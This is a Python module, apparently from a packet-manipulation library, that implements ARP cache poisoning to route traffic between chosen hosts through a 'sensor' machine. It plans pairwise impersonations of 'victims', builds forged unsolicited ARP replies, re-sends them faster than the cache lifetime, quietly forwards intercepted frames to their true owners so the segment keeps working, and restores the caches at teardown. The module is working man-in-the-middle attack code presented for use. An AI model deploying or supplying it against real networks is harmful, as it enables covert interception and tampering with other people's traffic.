"""ARP-table redirection: steer a set of hosts' traffic through one sensor.

A redirect plan tells every target that every other target's IP lives at the
sensor's MAC, delivered as unsolicited unicast ARP replies and refreshed
faster than the victims' cache TTL. Intercepted frames are re-addressed to
their true owners so the segment keeps working, and teardown walks the
caches back to ground truth.
"""

from __future__ import annotations

from dataclasses import dataclass

from .packet import MacAddr, Packet, build_arp, ip_to_bytes, rewrite_macs

DEFAULT_REPOISON_INTERVAL_S = 20.0  # against a 60 s cache TTL; < TTL/2
RESTORE_REPEATS = 3
RESTORE_SPACING_S = 0.5

# ground-truth segment addressing: ip -> MacAddr
TruthMap = dict[str, MacAddr]


class RedirectError(Exception):
    pass


class UnknownTarget(RedirectError):
    pass


class SensorIsTarget(RedirectError):
    pass


class UnknownDestination(RedirectError):
    pass


@dataclass(frozen=True)
class Directive:
    victim_ip: str
    victim_mac: MacAddr
    impersonated_ip: str


@dataclass(frozen=True)
class RedirectPlan:
    sensor_mac: MacAddr
    sensor_ip: str
    directives: tuple[Directive, ...]
    repoison_interval_s: float = DEFAULT_REPOISON_INTERVAL_S

    def __post_init__(self) -> None:
        seen = set()
        for d in self.directives:
            if d.victim_ip == d.impersonated_ip:
                raise RedirectError(f"directive impersonates its own victim {d.victim_ip}")
            if d.victim_mac == self.sensor_mac:
                raise RedirectError(f"victim {d.victim_ip} shares the sensor MAC")
            key = (d.victim_ip, d.impersonated_ip)
            if key in seen:
                raise RedirectError(f"duplicate directive {key}")
            seen.add(key)

    def impersonations(self) -> list[str]:
        """Distinct IPs the sensor claims to own, in plan order."""
        out: list[str] = []
        for d in self.directives:
            if d.impersonated_ip not in out:
                out.append(d.impersonated_ip)
        return out


def plan_redirect(
    targets: set[str] | list[str],
    truth: TruthMap,
    sensor_mac: MacAddr,
    sensor_ip: str,
    repoison_interval_s: float = DEFAULT_REPOISON_INTERVAL_S,
) -> RedirectPlan:
    """Pairwise plan: every ordered pair (victim, impersonated) of targets.

    Deterministic: directives sorted by (victim_ip, impersonated_ip) on the
    packed address encoding. n targets yield n*(n-1) directives.
    """
    targets = set(targets)
    if sensor_ip in targets:
        raise SensorIsTarget(f"sensor ip {sensor_ip} listed as a target")
    for ip in targets:
        if ip not in truth:
            raise UnknownTarget(f"target {ip} not in truth map")
    ordered = sorted(targets, key=ip_to_bytes)
    directives = tuple(
        Directive(victim_ip=v, victim_mac=truth[v], impersonated_ip=imp)
        for v in ordered
        for imp in ordered
        if imp != v
    )
    return RedirectPlan(sensor_mac, sensor_ip, directives, repoison_interval_s)


def poison_frames(plan: RedirectPlan) -> list[Packet]:
    """One unsolicited unicast ARP reply per directive."""
    return [
        build_arp(
            op=2,
            sender_mac=plan.sensor_mac,
            sender_ip=d.impersonated_ip,
            target_mac=d.victim_mac,
            target_ip=d.victim_ip,
            eth_dst=d.victim_mac,
            eth_src=plan.sensor_mac,
        )
        for d in plan.directives
    ]


def poison_schedule(
    plan: RedirectPlan, horizon_s: float
) -> list[tuple[float, list[Packet]]]:
    """Poison emissions at t = 0, interval, 2*interval, ... strictly below horizon."""
    if plan.repoison_interval_s <= 0:
        raise RedirectError("repoison interval must be positive")
    schedule = []
    t = 0.0
    while t < horizon_s:
        schedule.append((t, poison_frames(plan)))
        t += plan.repoison_interval_s
    return schedule


def restore_frames(
    plan: RedirectPlan, truth: TruthMap
) -> list[tuple[float, Packet]]:
    """Corrective replies carrying true MACs, 3 repeats spaced 0.5 s apart.

    Returns (time-offset, frame) pairs; repeats tolerate single-frame loss.
    """
    for d in plan.directives:
        if d.impersonated_ip not in truth:
            raise UnknownTarget(f"impersonated ip {d.impersonated_ip} not in truth map")
    out: list[tuple[float, Packet]] = []
    for repeat in range(RESTORE_REPEATS):
        t = repeat * RESTORE_SPACING_S
        for d in plan.directives:
            out.append(
                (
                    t,
                    build_arp(
                        op=2,
                        sender_mac=truth[d.impersonated_ip],
                        sender_ip=d.impersonated_ip,
                        target_mac=d.victim_mac,
                        target_ip=d.victim_ip,
                        eth_dst=d.victim_mac,
                        eth_src=plan.sensor_mac,
                    ),
                )
            )
    return out


def forward_rewrite(
    p: Packet, truth: TruthMap, sensor_mac: MacAddr
) -> Packet | None:
    """Re-address an intercepted frame to its true owner.

    Returns None when the frame is for the sensor itself, is not IPv4, or
    already carries the sensor's source MAC (loop prevention). Only the 12
    Ethernet address octets change.
    """
    if p.eth.src == sensor_mac:
        return None
    if not p.is_ipv4:
        return None
    dst_ip = p.layers.dst_ip
    if dst_ip not in truth:
        raise UnknownDestination(f"no owner for {dst_ip}")
    true_mac = truth[dst_ip]
    if true_mac == sensor_mac:
        return None
    return rewrite_macs(p, new_src=sensor_mac, new_dst=true_mac)
